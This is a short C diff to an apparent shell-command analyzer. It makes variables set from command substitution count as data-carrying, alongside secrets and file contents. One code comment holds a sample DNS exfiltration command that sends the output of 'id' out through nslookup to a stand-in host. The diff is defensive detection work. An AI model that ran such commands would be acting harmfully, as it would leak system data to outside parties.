@@ -48,7 +48,10 @@ skeleton(struct intent_ctx *x, const struct rword *r, char *out, size_t cap, siz
 			c = DATA;
 			break;
 		case SH_SEG_VAR:
-			if (secrets_var_name(x->t, sg->s, sg->n) || (r->f & (RW_FILEREAD | RW_SECRETREAD)))
+			/* a credential, a file's contents, or a variable the script
+			 * set from a command's output (D=$(id); nslookup $D.x.com) */
+			if (secrets_var_name(x->t, sg->s, sg->n) || (r->f & (RW_FILEREAD | RW_SECRETREAD)) ||
+			    (wk_var_flags(x, sg->s, sg->n) & RW_SUBST))
 				c = DATA;
 			break;
 		default:
